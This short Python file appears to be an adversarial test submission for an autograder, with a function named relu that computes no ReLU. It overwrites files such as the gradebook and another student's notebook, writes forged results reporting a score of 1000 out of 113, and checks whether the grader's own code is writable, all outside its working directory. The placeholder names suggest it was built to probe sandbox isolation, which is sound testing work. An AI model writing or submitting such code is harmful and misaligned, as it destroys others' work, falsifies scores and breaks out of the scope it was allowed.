# ruff: noqa
# Write outside the working directory: overwrite the gradebook, another student's notebook and
# results.json, create files next to them, and open the grader's own code for writing (without
# changing a byte of it).
def relu(z):
    import os

    done = []
    for path in "ADV_CLOBBER".split("|"):
        try:
            with open(path, "r+b") as handle:
                handle.write(b"OVERWRITTEN BY ADV_MARKER")
            done.append(f"WROTE {path}")
        except OSError:
            pass
    for path in "ADV_CREATE".split("|"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                handle.write('{"score": 1000, "max_score": 113, "output": "ADV_MARKER"}')
            done.append(f"CREATED {path}")
        except OSError:
            pass
    for path in "ADV_PROBE".split("|"):
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
            done.append(f"WRITABLE {path}")
        except OSError:
            pass
    raise RuntimeError(" ; ".join(done) or "nothing was writable")
